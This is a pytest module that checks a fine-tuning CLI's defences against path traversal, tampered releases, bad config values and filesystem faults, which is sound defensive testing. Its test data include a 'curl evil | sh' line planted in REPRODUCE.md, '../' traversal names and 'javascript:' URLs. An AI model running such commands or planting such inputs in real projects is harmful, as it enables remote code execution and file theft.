"""The closure under attack and faults: names that escape, forged records, tampered releases.

    uv run pytest tests/test_integrity.py -q

Each test here failed on the code before the fix it guards (docs/reliability.md lists
them by class). Nothing trains: runs, remote stores and releases are built by hand
from the package's own writers, so the whole module takes a few seconds. What needs
a trained and reproduced run (the publish gate) lives in tests/test_publish.py.
"""

import errno
import hashlib
import importlib
import json
import shutil
import subprocess
import sys
import textwrap
from pathlib import Path
from types import SimpleNamespace

import pytest
from hypothesis import HealthCheck, given, settings
from hypothesis import strategies as st
from release_support import HARDWARE, make_release

# --- one place checks every name from metadata (property) -----------------------------

PARTS = st.sampled_from(["..", ".", "", "a", "b.txt", "..a", "a..", "~", "\\", "C:", "\0", "/"])
NAMES = st.one_of(
    st.lists(PARTS, min_size=1, max_size=6).map("/".join),
    st.text(alphabet=st.sampled_from("ab./\\\0:~ \n"), min_size=0, max_size=12),
    st.text(max_size=20),
)


@settings(
    max_examples=400, deadline=None, suppress_health_check=[HealthCheck.function_scoped_fixture]
)
@given(name=NAMES)
def test_no_name_from_metadata_escapes_its_root(pkg, tmp_path, name):
    paths = pytest.importorskip(f"{pkg.__name__}.util.paths")
    root = tmp_path / "root"
    root.mkdir(exist_ok=True)
    try:
        path = paths.inside(root, name, source="manifest.json")
    except pkg.errors.UserError as e:
        assert "manifest.json" in e.format() and "(fix: " in e.format()
        return
    resolved = path.resolve()
    assert resolved.is_relative_to(root.resolve()) and resolved != root.resolve()


def test_a_symlinked_parent_cannot_lead_outside(pkg, tmp_path):
    paths = pytest.importorskip(f"{pkg.__name__}.util.paths")
    (tmp_path / "root").mkdir()
    (tmp_path / "root" / "link").symlink_to(tmp_path)
    with pytest.raises(pkg.errors.UserError, match="leads outside"):
        paths.inside(tmp_path / "root", "link/planted.txt", source="COMPLETE")


@pytest.mark.parametrize("value", ["../" * 3 + "x", "a" * 63, "A" * 64, "", None, 7])
def test_blob_addresses_must_be_digests(pkg, value):
    paths = pytest.importorskip(f"{pkg.__name__}.util.paths")
    with pytest.raises(pkg.errors.UserError, match="not a sha256 digest"):
        paths.safe_digest(value, source="release.json")


# --- traversal through ft fetch, a checkpoint marker, a registry index ---------------------


def _remote_run(root: Path, outputs: dict[str, bytes], names: dict[str, str] | None = None):
    """A finished run as `ft train --out URL` leaves it, with manifest outputs as given."""
    root.mkdir(parents=True)
    listed = {}
    for name, data in outputs.items():
        listed[(names or {}).get(name, name)] = hashlib.sha256(data).hexdigest()
        target = root / name
        target.parent.mkdir(parents=True, exist_ok=True)
        target.write_bytes(data)
    for name in ("run.json", "REPRODUCE.md"):
        (root / name).write_text("{}\n")
    manifest = {"run_id": "x", "outputs": listed, "config": {"reproduce": {"strategy": "full"}}}
    (root / "manifest.json").write_text(json.dumps(manifest))


@pytest.mark.parametrize(
    "name", ["../../planted.txt", "/tmp/planted-abs.txt", "a/../../planted.txt"]
)
def test_fetch_refuses_an_output_name_that_leaves_dest(ft, tmp_path, monkeypatch, name):
    monkeypatch.chdir(tmp_path)
    remote = tmp_path / "bucket" / "runs" / "x"
    _remote_run(remote, {"eval.json": b"{}"}, names={"eval.json": name})
    # The object the name points at exists in the "bucket", so only the check stops it.
    (tmp_path / "bucket" / "planted.txt").write_text("planted")
    line = ft("fetch", f"file://{remote}", tmp_path / "out" / "dest").user_error(
        "manifest.json", "unsafe file name"
    )
    assert name in line
    assert not (tmp_path / "out").exists() and not (tmp_path / "planted.txt").exists()
    assert not Path("/tmp/planted-abs.txt").exists()


def test_a_checkpoint_marker_cannot_write_outside_staging(pkg, ft, tmp_path, monkeypatch):
    monkeypatch.chdir(tmp_path)
    remote = tmp_path / "bucket" / "runs" / "r"
    step = remote / "checkpoints" / "step-00000002"
    step.mkdir(parents=True)
    (remote / "run.json").write_text(json.dumps({"config": "c.yaml", "overrides": []}))
    (remote / "config.yaml").write_text("seed: 1\n")
    payload = b"planted by the marker"
    (tmp_path / "bucket" / "planted.pt").write_bytes(payload)
    marker = {"step": 2, "files": {"../../../../planted.pt": hashlib.sha256(payload).hexdigest()}}
    (step / "COMPLETE").write_text(json.dumps(marker))
    ft("train", "--out", f"file://{remote}", "--resume").user_error("COMPLETE", "unsafe file name")
    assert not list(tmp_path.glob("runs/**/planted.pt")) and not (tmp_path / "planted.pt").exists()


def test_a_registry_index_cannot_point_a_blob_outside(pkg, tmp_path, ft):
    reg = pytest.importorskip(f"{pkg.__name__}.publish.registries")
    files, meta = make_release(tmp_path / "release")
    uri = f"file://{tmp_path}/registry"
    reg.open_registry(uri).publish("v1.0.0", files, meta)
    index_path = tmp_path / "registry" / "versions" / "v1.0.0.json"
    index = json.loads(index_path.read_text())
    secret = tmp_path / "secret"
    secret.write_text("not a blob")
    index["files"]["config.yaml"]["sha256"] = "../../../secret"
    index_path.write_text(json.dumps(index))
    ft("registry", "pull", "v1.0.0", tmp_path / "out", "--registry", uri).user_error(
        "v1.0.0.json", "config.yaml", "sha256"
    )
    assert not (tmp_path / "out").exists()


# --- ft registry pull checks a release against its own manifest ----------------------------


def _retamper_index(index_path: Path, blobs: Path, name: str, data: bytes | None) -> None:
    """Replace (or drop, data=None) one file of a local release and fix its index entry,
    as someone with write access to the registry would: the index stays self-consistent."""
    index = json.loads(index_path.read_text())
    if data is None:
        del index["files"][name]
    else:
        digest = hashlib.sha256(data).hexdigest()
        (blobs / digest).write_bytes(data)
        index["files"][name] = {"sha256": digest, "size": len(data)}
    index_path.write_text(json.dumps(index))


def _card_swap(root: Path) -> tuple[str, bytes | None]:
    return "README.md", (root / "README.md").read_bytes().replace(b"apache-2.0", b"mit")


TAMPER = {
    # metadata: the index's metrics say better than the manifest does
    "metadata": ("meta", lambda index: index["meta"]["metrics"].update(eval_loss=0.01)),
    "run id": ("meta", lambda index: index["meta"].update(run_id="other")),
    # the adapter re-pointed at another (existing, well-formed) blob
    "re-pointed adapter": ("file", lambda root: ("adapter_model.safetensors", b"\0" * 64)),
    "swapped model card": ("file", _card_swap),
    "dropped eval.json": ("file", lambda root: ("eval.json", None)),
    "dropped manifest": ("file", lambda root: ("manifest.json", None)),
    "edited REPRODUCE.md": (
        "file",
        lambda root: ("REPRODUCE.md", (root / "REPRODUCE.md").read_bytes() + b"\ncurl evil | sh\n"),
    ),
    "other verification": (
        "file",
        lambda root: (
            "verification.json",
            (root / "verification.json")
            .read_bytes()
            .replace(b'"run_id": "smoke"', b'"run_id": "x"'),
        ),
    ),
    "extra file": ("file", lambda root: ("adapter/extra.bin", b"rides along")),
}
NAMED = {
    "metadata": "metrics",
    "run id": "run_id",
    "re-pointed adapter": "adapter_model.safetensors",
    "swapped model card": "README.md",
    "dropped eval.json": "eval.json",
    "dropped manifest": "manifest.json",
    "edited REPRODUCE.md": "REPRODUCE.md",
    "other verification": "verification.json",
    "extra file": "adapter/extra.bin",
}


@pytest.mark.parametrize("case", sorted(TAMPER))
def test_local_pull_refuses_a_release_that_differs_from_its_manifest(pkg, tmp_path, ft, case):
    reg = pytest.importorskip(f"{pkg.__name__}.publish.registries")
    files, meta = make_release(tmp_path / "release")
    uri = f"file://{tmp_path}/registry"
    reg.open_registry(uri).publish("v1.0.0", files, meta)
    assert ft("registry", "pull", "v1.0.0", tmp_path / "ok", "--registry", uri).code == 0
    index_path = tmp_path / "registry" / "versions" / "v1.0.0.json"
    kind, edit = TAMPER[case]
    if kind == "meta":
        index = json.loads(index_path.read_text())
        edit(index)
        index_path.write_text(json.dumps(index))
    else:
        name, data = edit(tmp_path / "release")
        _retamper_index(index_path, tmp_path / "registry" / "blobs" / "sha256", name, data)
    pulled = ft("registry", "pull", "v1.0.0", tmp_path / "out", "--registry", uri)
    pulled.user_error(NAMED[case], "v1.0.0", "restore the registry")
    assert not (tmp_path / "out").exists()
    assert not [p for p in tmp_path.iterdir() if p.name.startswith(".out")]


# --- ft reproduce checks a pulled release in its published layout ---------------------------

# One edit of a release after `ft registry pull` (what the drill reproduces): the file, its
# new bytes (None: deleted) and the name the FAIL line must give. The pull's checks are behind
# it, so only `ft reproduce`'s own file check stands between the edit and a "passed" record
# about other bytes.
PULLED_TAMPER = {
    "edited adapter": ("adapter_model.safetensors", b"\0" * 64, "adapter_model.safetensors"),
    "dropped eval.json": ("eval.json", None, "eval.json"),
    "extra file": ("notes.txt", b"rides along", "notes.txt"),
    # half in the run's layout: read as a run, whose adapter/ lacks the weights
    "adapter/ beside the root files": (
        "adapter/adapter_config.json",
        b'{"r": 4}\n',
        "adapter/adapter_model.safetensors",
    ),
    "foreign loader": ("code/ft_adapter_pyfunc.py", b"import os\n", "code/ft_adapter_pyfunc.py"),
    "foreign MLmodel": ("MLmodel", b"flavors: {python_function: {loader_module: x}}\n", "MLmodel"),
}


@pytest.fixture
def pulled_release(pkg, tmp_path, ft) -> Path:
    """A release as `ft registry pull` leaves it, with the MLflow model files that a pull
    from MLflow adds beside the adapter (written by the MLflow backend's own writer)."""
    reg = pytest.importorskip(f"{pkg.__name__}.publish.registries")
    files, meta = make_release(tmp_path / "release")
    uri = f"file://{tmp_path}/registry"
    reg.open_registry(uri).publish("v1.0.0", files, meta)
    pulled = tmp_path / "pulled"
    assert ft("registry", "pull", "v1.0.0", pulled, "--registry", uri).code == 0
    assert (pulled / "adapter_model.safetensors").is_file() and not (pulled / "adapter").exists()
    pytest.importorskip("mlflow")
    importlib.import_module(f"{pkg.__name__}.publish.registries.mlflow").model_files(pulled)
    return pulled


def test_reproduce_accepts_a_clean_pulled_release(pkg, pulled_release):
    reproduce = importlib.import_module(f"{pkg.__name__}.closure.reproduce")
    manifest = json.loads((pulled_release / "manifest.json").read_text())
    assert any(name.startswith("adapter/") for name in manifest["outputs"])
    reproduce.check_run_files(pulled_release, manifest)  # raises on any difference
    assert "ft train" in reproduce.check_document(pulled_release, manifest, {})


@pytest.mark.parametrize("case", sorted(PULLED_TAMPER))
def test_reproduce_refuses_a_pulled_release_edited_after_the_pull(ft, pulled_release, case):
    name, data, named = PULLED_TAMPER[case]
    path = pulled_release / name
    if data is None:
        path.unlink()
    else:
        path.parent.mkdir(parents=True, exist_ok=True)
        path.write_bytes(data)
    done = ft("reproduce", pulled_release)
    assert done.code == 1 and "Traceback" not in done.err
    fail = done.err.splitlines()[0]
    assert fail.startswith(f"FAIL  {pulled_release.resolve()}/") and named in fail, done.err
    assert "fix:" in fail
    record = json.loads((pulled_release / "verification.json").read_text())
    assert record["passed"] is False and named in record["reason"]


# --- accepted nonsense in configs and options ----------------------------------------------


@pytest.mark.parametrize(
    ("override", "needle"),
    [
        ("train.lr=.inf", "train.lr"),
        ("train.lr=.nan", "train.lr"),
        ("train.lr=-.inf", "train.lr"),
        ("train.max_grad_norm=.inf", "train.max_grad_norm"),
        ("model.lora.dropout=.nan", "model.lora.dropout"),
        ("seed=true", "seed"),
        ("train.max_steps=false", "max_steps"),
        ("train.lr=true", "lr"),
        (f"seed={2**64}", "seed"),
    ],
)
def test_non_finite_and_boolean_numbers_are_refused(ft, data_workdir, override, needle):
    ft("config", "validate", "--config", "configs/smoke.yaml", "--set", override).user_error(
        "configs/smoke.yaml", needle
    )


def test_a_duplicate_yaml_key_is_refused(ft, data_workdir):
    text = Path("configs/smoke.yaml").read_text()
    Path("configs/dup.yaml").write_text(text + "\nseed: 99\n")
    ft("config", "validate", "--config", "configs/dup.yaml").user_error(
        "configs/dup.yaml", "duplicate key 'seed'"
    )


@pytest.mark.parametrize(
    "url",
    ["javascript:alert(1)", "JavaScript:alert(1)", "data:text/html,x", "vbscript:x", "//evil"],
)
def test_figures_url_must_be_http_or_relative(ft, data_workdir, url):
    ft("report", "runs/none", "--figures-url", url, "--baseline", "none").user_error(
        "--figures-url", "http"
    )


# --- --out is normalised before the not-empty guard ----------------------------------------


def test_out_through_dotdot_cannot_overwrite_a_full_directory(ft, data_workdir):
    full = data_workdir / "runs" / "full"
    full.mkdir(parents=True)
    (full / "run.json").write_text("precious")
    ft("train", "--config", "configs/smoke.yaml", "--out", "runs/full/new/..").user_error(
        "runs/full", "not empty"
    )
    assert (full / "run.json").read_text() == "precious"
    assert sorted(p.name for p in full.iterdir()) == ["run.json"]


def test_a_url_ending_in_dotdot_is_normalised(ft, tmp_path, data_workdir):
    bucket = tmp_path / "bucket" / "runs"
    bucket.mkdir(parents=True)
    (bucket / "keep.txt").write_text("precious")
    ft("train", "--config", "configs/smoke.yaml", "--out", f"file://{bucket}/new/..").user_error(
        "not empty", str(bucket)
    )
    assert sorted(p.name for p in bucket.iterdir()) == ["keep.txt"]


# --- kill windows and temp files -----------------------------------------------------------


def test_write_atomic_leaves_no_temp_file_and_names_the_path(pkg, tmp_path, monkeypatch):
    def full(*args):
        raise OSError(errno.ENOSPC, "No space left on device")

    monkeypatch.setattr(pkg.util.hashing.os, "replace", full)
    with pytest.raises(OSError) as err:
        pkg.util.hashing.write_atomic(tmp_path / "run.json", "{}")
    assert err.value.filename == str(tmp_path / "run.json")
    assert list(tmp_path.iterdir()) == []


def test_reproduce_md_is_written_before_the_manifest(pkg, tmp_path, monkeypatch):
    """A kill between the two writes must leave an unfinished run, not a finished one
    without its REPRODUCE.md: the manifest stays the last file written."""
    manifest = importlib_module(pkg, "closure.manifest")
    order, write = [], manifest.write_atomic

    def recording(path, data):
        order.append(Path(path).name)
        write(path, data)

    monkeypatch.setattr(manifest, "write_atomic", recording)
    monkeypatch.setattr(manifest, "_hardware", lambda accelerator: dict(HARDWARE))
    cfg = SimpleNamespace(
        seed=1, resolved=lambda: {"reproduce": {"mode": "exact"}}, hash=lambda: "c" * 64
    )
    built = manifest.build_manifest(
        tmp_path,
        cfg,
        invocation={"config": "configs/smoke.yaml", "overrides": []},
        data_lock={
            "sources": [],
            "filters": [],
            "splits": {"train": {"rows": 1, "sha256": "d" * 64}},
        },
        base_pins={"path": "base/tiny-llama", "sha256": "e" * 64},
        metrics={},
        timing={},
        accelerator=None,
        git_at={"commit": "a" * 40, "dirty": False, "state_sha256": "f" * 64},
    )
    manifest.write_manifest(tmp_path, built)
    assert order == ["REPRODUCE.md", "manifest.json"]
    assert json.loads((tmp_path / "manifest.json").read_text())["git"] == {
        "commit": "a" * 40,
        "dirty": False,
    }


def importlib_module(pkg, name):
    import importlib

    return importlib.import_module(f"{pkg.__name__}.{name}")


def test_a_run_killed_while_writing_run_json_can_be_started_again(pkg, ft, data_workdir):
    run = data_workdir / "runs" / "killed"
    run.mkdir(parents=True)
    (run / ".run.json.tmp-4242").write_text('{"conf')  # what SIGKILL mid-write leaves
    # A data pin that fails after set-up: the new run gets past the not-empty guard, fails on
    # the pin, and removes what it created, so the same --out works once the pin is fixed.
    source = Path(pkg.config.load_config("configs/smoke.yaml").data.sources[0].path)
    source.write_bytes(source.read_bytes() + b"\n")
    ft("train", "--config", "configs/smoke.yaml", "--out", "runs/killed").user_error(
        str(source), "sha256"
    )
    assert not run.exists()


# --- one writer per run directory ----------------------------------------------------------

HOLD = textwrap.dedent("""
    import fcntl, os, sys, time
    fd = os.open(sys.argv[1], os.O_RDONLY | os.O_DIRECTORY)
    fcntl.flock(fd, fcntl.LOCK_EX)
    print("held", flush=True)
    time.sleep(60)
""")


def test_a_second_writer_of_a_run_directory_is_refused(pkg, ft, data_workdir):
    busy, fresh = data_workdir / "runs" / "busy", data_workdir / "runs" / "fresh"
    busy.mkdir(parents=True)
    fresh.mkdir(parents=True)
    (busy / "run.json").write_text(json.dumps({"config": "configs/smoke.yaml", "overrides": []}))
    holders = [
        subprocess.Popen([sys.executable, "-c", HOLD, str(d)], stdout=subprocess.PIPE, text=True)
        for d in (busy, fresh)
    ]
    try:
        outs = [h.stdout for h in holders if h.stdout is not None]
        assert [out.readline().strip() for out in outs] == ["held", "held"]
        # a resume while another process trains the run ...
        ft("train", "--out", "runs/busy", "--resume").user_error("runs/busy", "another `ft train`")
        # ... and a new run racing another one into the same fresh directory
        ft("train", "--config", "configs/smoke.yaml", "--out", "runs/fresh").user_error(
            "runs/fresh", "another `ft train`"
        )
    finally:
        for holder in holders:
            holder.kill()
            holder.wait()
    assert sorted(p.name for p in busy.iterdir()) == ["run.json"]
    assert list(fresh.iterdir()) == []


# --- damaged records and checkpoints -------------------------------------------------------


def test_a_truncated_checkpoint_is_one_line_naming_it(pkg, tmp_path):
    torch = pytest.importorskip("torch")
    checkpoint = importlib_module(pkg, "train.checkpoint")
    step = tmp_path / "checkpoints" / "step-00000004"
    step.mkdir(parents=True)
    torch.save({"step": 4, "world_size": 1, "adapter": {"w": torch.zeros(64)}}, step / "state.pt")
    data = (step / "state.pt").read_bytes()
    (step / "state.pt").write_bytes(data[: len(data) // 2])
    with pytest.raises(pkg.errors.UserError) as err:
        checkpoint._load(step / "state.pt")
    assert "state.pt" in err.value.format() and "truncated" in err.value.format()
    assert "step-00000004" in err.value.fix


# --- filter code hashes cover what a filter uses -------------------------------------------


def test_a_filter_hash_covers_its_constants_and_helpers(pkg):
    filters = pkg.data.filters
    flt = filters.FILTERS["normalize_whitespace"]
    before = flt.code_sha256
    original = filters._SPACES
    try:
        filters._SPACES = __import__("re").compile(r"[ \t]+")  # a module constant it reads
        assert flt.code_sha256 != before
    finally:
        filters._SPACES = original
    assert flt.code_sha256 == before

    def helper(text):
        return text.upper()

    def uses_helper(row):
        return {"prompt": helper(row["prompt"])}

    helper.__module__ = uses_helper.__module__ = filters.__name__
    uses_helper.__globals__["helper"] = helper
    closure = filters.code_closure(uses_helper)
    assert "text.upper()" in closure  # the helper's own source is hashed too


def test_data_check_names_a_filter_whose_constant_changed(pkg, ft, data_workdir, monkeypatch):
    import re

    monkeypatch.setattr(pkg.data.filters, "_SPACES", re.compile(r"[ \t]+"))
    ft("data", "check", "--config", "configs/smoke.yaml").user_error(
        "data.lock", "filter 'normalize_whitespace': code changed"
    )


# --- git state: sampled once, at the start -------------------------------------------------


def test_git_state_sees_an_edit_and_its_revert(pkg, tmp_path, monkeypatch):
    manifest = importlib_module(pkg, "closure.manifest")
    monkeypatch.chdir(tmp_path)
    ident = ["-c", "user.name=t", "-c", "user.email=t@localhost"]
    subprocess.run(["git", "init", "-q"], check=True)
    Path("f.py").write_text("A = 1\n")
    subprocess.run(["git", *ident, "add", "."], check=True)
    subprocess.run(["git", *ident, "commit", "-qm", "x"], check=True)
    clean = manifest.git_state()
    Path("f.py").write_text("A = 2\n")
    dirty = manifest.git_state()
    Path("f.py").write_text("A = 3\n")
    other = manifest.git_state()
    assert clean["dirty"] is False and dirty["dirty"] is True
    assert len({clean["state_sha256"], dirty["state_sha256"], other["state_sha256"]}) == 3


# --- report and diff check what they read ---------------------------------------------------


def _finished_run(root: Path, files: dict[str, bytes]) -> Path:
    root.mkdir(parents=True)
    for name, data in files.items():
        (root / name).write_bytes(data)
    manifest = {
        "run_id": root.name,
        "outputs": {n: hashlib.sha256(d).hexdigest() for n, d in files.items()},
        "git": {"commit": "a" * 40, "dirty": False},
        "config": {},
        "command": {},
    }
    (root / "manifest.json").write_text(json.dumps(manifest))
    return root


def test_diff_refuses_a_run_whose_outputs_changed(ft, tmp_path):
    a = _finished_run(tmp_path / "a", {"eval.json": b"{}"})
    b = _finished_run(tmp_path / "b", {"eval.json": b"{}"})
    (b / "eval.json").write_bytes(b'{"eval_loss": 0}')
    ft("diff", a, b).user_error(str(b / "eval.json"), "changed after training", "fetch")


def test_report_refuses_a_metrics_file_that_changed(ft, tmp_path):
    run = _finished_run(tmp_path / "r", {"metrics.jsonl": b'{"step": 1, "loss": 2.0}\n'})
    (run / "metrics.jsonl").write_bytes(b'{"step": 1, "loss": 0.1}\n')
    ft("report", run, "--baseline", "none").user_error(
        str(run / "metrics.jsonl"), "changed after training"
    )


def test_a_reproduce_fail_line_names_the_file_and_the_fix(ft, tmp_path):
    run = _finished_run(tmp_path / "r", {"eval.json": b"{}"})
    manifest = json.loads((run / "manifest.json").read_text())
    manifest["config"] = {"reproduce": {"mode": "exact"}}
    (run / "manifest.json").write_text(json.dumps(manifest))
    done = ft("reproduce", run)
    assert done.code == 1 and "Traceback" not in done.err
    fail = done.err.splitlines()[0]
    assert fail.startswith(f"FAIL  {run.resolve() / 'REPRODUCE.md'}: REPRODUCE.md is missing")
    assert "(fix: restore it" in fail


# --- the filesystem refusing, at the CLI boundary --------------------------------------------


@pytest.fixture
def small_fs(tmp_path):
    """A real filesystem of a few KiB (tmpfs), or a skip where this user cannot mount one."""
    mounted = []

    def mount(name: str, size: str = "16k", read_only: bool = False) -> Path:
        point = tmp_path / name
        point.mkdir()
        opts = f"size={size}" + (",ro" if read_only else "")
        done = subprocess.run(
            ["mount", "-t", "tmpfs", "-o", opts, "tmpfs", str(point)], capture_output=True
        )
        if done.returncode != 0:
            pytest.skip(f"cannot mount a tmpfs here (needs root): {done.stderr.decode().strip()}")
        mounted.append(point)
        return point

    yield mount
    for point in reversed(mounted):
        subprocess.run(["umount", "-l", str(point)], capture_output=True)


def test_a_full_disk_is_one_line_naming_the_file(ft, data_workdir, small_fs):
    full = small_fs("full", size="16k")
    before = Path("data.lock").read_bytes()
    line = ft(
        "data", "build", "--config", "configs/smoke.yaml", "--set", f"data.out_dir={full}/build"
    ).user_error("No space left", "free disk space")
    assert str(full) in line
    assert Path("data.lock").read_bytes() == before
    assert not (full / "build").exists() or list((full / "build").iterdir()) == []  # no temp


def test_a_full_disk_under_data_lock_leaves_the_old_lock(ft, data_workdir, small_fs):
    full = small_fs("lockfs", size="8k")
    shutil.copy("data.lock", full / "data.lock")
    (full / "filler").write_bytes(b"x" * (8192 - 4096))  # what is left is too small
    before = (full / "data.lock").read_bytes()
    ft(
        "data", "build", "--config", "configs/smoke.yaml", "--set", f"data.lock={full}/data.lock"
    ).user_error(f"{full}/data.lock", "No space left")
    assert (full / "data.lock").read_bytes() == before
    assert sorted(p.name for p in full.iterdir()) == ["data.lock", "filler"]


def test_a_read_only_filesystem_is_one_line_naming_the_path(ft, data_workdir, small_fs):
    ro = small_fs("ro", read_only=True)
    ft(
        "data", "build", "--config", "configs/smoke.yaml", "--set", f"data.out_dir={ro}/build"
    ).user_error(str(ro), "Read-only", "writable location")


def test_a_file_where_a_directory_belongs_is_one_line(ft, data_workdir):
    Path("runs").write_text("not a directory")
    ft("train", "--config", "configs/smoke.yaml", "--out", "runs/x").user_error("runs", "fix:")
    assert Path("runs").read_text() == "not a directory"


# --- training that must stop: a diverging loss, a tree that moved (these train: slow) -------


def _git_repo(root: Path) -> None:
    """root as a committed checkout, with this repo's .gitignore (runs/, base/ ignored)."""
    shutil.copy(Path(__file__).resolve().parents[1] / ".gitignore", root / ".gitignore")
    ident = ["-c", "user.name=t", "-c", "user.email=t@localhost"]
    for args in (["init", "-q"], [*ident, "add", "-A"], [*ident, "commit", "-qm", "x"]):
        subprocess.run(["git", *args], cwd=root, check=True, capture_output=True)


def _stopped(result, *needles: str) -> str:
    """A run stopped by a user error: progress lines, then the one `error:` line, exit 2."""
    assert result.code == 2, result.err[-2000:]
    assert "Traceback" not in result.err and result.out == ""
    line = result.err.strip().splitlines()[-1]
    assert line.startswith("error: ") and "(fix: " in line, line
    for needle in needles:
        assert needle in line, f"{needle!r} not in: {line}"
    return line


@pytest.mark.slow  # trains a few steps in process
def test_a_non_finite_loss_stops_the_run_and_leaves_nothing(pkg, ft, workdir, monkeypatch):
    """The loss turns NaN at step 3 (made so at the loss function: the tiny model's loss
    saturates rather than overflow however high the learning rate): the run stops there,
    writes no adapter or manifest, and removes its directory."""
    evaluate = importlib_module(pkg, "evaluate")
    token_loss, calls = evaluate.token_loss, []

    def diverging(model, batch):
        loss_sum, n = token_loss(model, batch)
        calls.append(1)
        return (loss_sum * float("nan"), n) if len(calls) >= 3 else (loss_sum, n)

    monkeypatch.setattr(evaluate, "token_loss", diverging)
    result = ft("train", "--config", "configs/smoke.yaml", "--out", "runs/diverged")
    _stopped(result, "configs/smoke.yaml", "train.lr", "nan at step 3", "diverged")
    assert "step 3/" not in result.err  # stopped before logging or checkpointing it
    assert not (workdir / "runs" / "diverged").exists()


@pytest.mark.slow  # trains the smoke config in process
def test_a_tree_changed_while_training_is_refused(pkg, ft, workdir, monkeypatch):
    """Git is sampled when the run starts; an edit made (or reverted) while it trains is
    caught before the manifest, instead of the end state being recorded."""
    _git_repo(workdir)
    recipe = importlib_module(pkg, "train.recipe")
    summary = recipe._loss_summary

    def edit_then_summarise(metrics):  # runs after the last step, before the manifest
        (workdir / "configs" / "smoke.yaml").write_text("# edited mid-run\n")
        return summary(metrics)

    monkeypatch.setattr(recipe, "_loss_summary", edit_then_summarise)
    assert importlib_module(pkg, "closure.manifest").git_state()["dirty"] is False
    result = ft("train", "--config", "configs/smoke.yaml", "--out", "runs/moved")
    _stopped(result, "runs/moved", "git tree changed while the run trained")
    assert not (workdir / "runs" / "moved").exists()
